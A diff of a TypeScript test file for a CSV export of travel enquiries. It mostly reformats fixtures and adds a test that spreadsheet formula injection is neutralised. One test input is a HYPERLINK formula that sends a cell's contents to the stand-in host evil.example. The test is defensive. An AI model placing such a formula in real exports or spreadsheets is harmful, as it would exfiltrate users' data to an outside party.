@@ -20,22 +20,25 @@ function makeRow(fields: Partial<ExportRow> = {}): ExportRow {
     status: 'new',
     receivedAt: '2026-11-20T20:15:30.123456Z',
     full: {
-      ...{
-        reference: 'KT-7F3K9Q',
-        received: '2026-11-21 01:45',
-        travelDate: '2027-01-15',
-        handledBy: 'meera',
-      },
-      ...{ adults: 2, children: 1, ages: [4], groupSize: null, priceShown: '', priceTotal: 42_000 },
-      ...{ followUp: '2026-11-25 18:00', firstContact: null },
-      ...{
-        expectedAmount: 90_000,
-        language: null,
-        closeReason: 'price',
-        closeNote: 'by ₹4,000',
-        termsVersion: 3,
-      },
-      ...{ leadSource: 'referral', leadDetail: 'Anil Kumar' },
+      reference: 'KT-7F3K9Q',
+      received: '2026-11-21 01:45',
+      travelDate: '2027-01-15',
+      handledBy: 'meera',
+      adults: 2,
+      children: 1,
+      ages: [4],
+      groupSize: null,
+      priceShown: '',
+      priceTotal: 42_000,
+      followUp: '2026-11-25 18:00',
+      firstContact: null,
+      expectedAmount: 90_000,
+      language: null,
+      closeReason: 'price',
+      closeNote: 'by ₹4,000',
+      termsVersion: 3,
+      leadSource: 'referral',
+      leadDetail: 'Anil Kumar',
     },
     ...fields,
   };
@@ -94,19 +97,32 @@ describe('the layouts', () => {
   it('service: stores everything verbatim, with ISO timestamps', () => {
     expect(readCsv(toExportLine(makeRow(), 'service'))).toEqual([
       [
-        '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d', 'ആശ മേനോൻ', 'asha@example.com', '98470 12345', 'Heart of Kerala',
-        'Adults: 2, Children: 1\nWe love "slow" boats.', '2026-11-20T20:15:30.123Z', 'new', 'website',
+        '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d',
+        'ആശ മേനോൻ',
+        'asha@example.com',
+        '98470 12345',
+        'Heart of Kerala',
+        'Adults: 2, Children: 1\nWe love "slow" boats.',
+        '2026-11-20T20:15:30.123Z',
+        'new',
+        'website',
       ],
-    ]); // oxfmt-ignore
+    ]);
   });
 
   it('list: replaces commas with semicolons and line breaks with spaces in the message, and uses the Kerala date', () => {
     expect(readCsv(toExportLine(makeRow(), 'list'))).toEqual([
       [
-        'ആശ മേനോൻ', 'asha@example.com', '98470 12345', 'Heart of Kerala', '14000', 'new',
-        '21/11/2026', 'Adults: 2; Children: 1 We love "slow" boats.',
+        'ആശ മേനോൻ',
+        'asha@example.com',
+        '98470 12345',
+        'Heart of Kerala',
+        '14000',
+        'new',
+        '21/11/2026',
+        'Adults: 2; Children: 1 We love "slow" boats.',
       ],
-    ]); // oxfmt-ignore
+    ]);
   });
 
   it('full: has the expected amount, why the request was closed, and the version of its terms', () => {
@@ -114,7 +130,10 @@ describe('the layouts', () => {
     const [cells = []] = readCsv(toExportLine(makeRow(), 'full'));
     const read = (column: string) => cells[header.indexOf(column)];
     expect(['Expected amount', 'Status', 'Why closed', 'Terms version'].map(read)).toEqual([
-      ...['90000', 'new', 'Price too high: by ₹4,000', '3'],
+      '90000',
+      'new',
+      'Price too high: by ₹4,000',
+      '3',
     ]);
   });
 
@@ -159,11 +178,33 @@ describe('the layouts', () => {
 
 describe('a cell that a spreadsheet could execute', () => {
   it.each([
-    '=HYPERLINK("http://evil.example?x="&A1,"Click")', '+919847012345', '-2+3', '@SUM(A1)', '=1+1', '\t=1+1', '\r=1+1', '\tword',
-    ' =1', '  +1', '\u00A0=1', '\uFEFF=1', '\u200B=1', '"=1', "'=1", '“=1', '` =1', '\n=1', '＝1+1', '＋91', '－1', '＠x', '﹦1', '−1',
+    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+    '+919847012345',
+    '-2+3',
+    '@SUM(A1)',
+    '=1+1',
+    '\t=1+1',
+    '\r=1+1',
+    '\tword',
+    ' =1',
+    '  +1',
+    '\u00A0=1',
+    '\uFEFF=1',
+    '\u200B=1',
+    '"=1',
+    "'=1",
+    '“=1',
+    '` =1',
+    '\n=1',
+    '＝1+1',
+    '＋91',
+    '－1',
+    '＠x',
+    '﹦1',
+    '−1',
   ])('prefixes %j with a quote', (cell) => {
     expect(neutralise(cell)).toBe(`'${cell}`);
-  }); // oxfmt-ignore
+  });
 
   it.each([
     'Asha',
